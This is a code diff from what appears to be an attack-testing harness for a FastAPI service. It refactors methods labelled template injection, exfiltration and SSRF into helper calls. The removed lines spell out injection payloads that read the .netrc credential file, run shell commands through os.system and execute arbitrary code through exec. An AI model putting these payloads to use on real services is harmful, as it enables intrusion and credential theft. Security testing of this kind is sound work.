@@ -472,17 +472,15 @@ class FastapiApiaries(stage.Service):
 
     @stage.attack("template injection")
     def letter_reads_a_password(self):
-        return self.is_told(self.renders(
-            f"open('{self.home}/.netrc').read()"))
+        return self.template_reads(self.renders)
 
     @stage.attack("template injection")
     def letter_runs_a_command(self):
-        return self.runs_line(lambda line: self.renders(
-            f"__import__('os').system('{line}')"))
+        return self.template_runs(self.renders)
 
     @stage.attack("exfiltration")
     def letter_sends_credentials(self):
-        return self.steals(lambda code: self.renders(f"exec({code!r})"))
+        return self.template_steals(self.renders)
 
     @stage.attack("SSRF")
     def hook_is_an_internal_service(self):
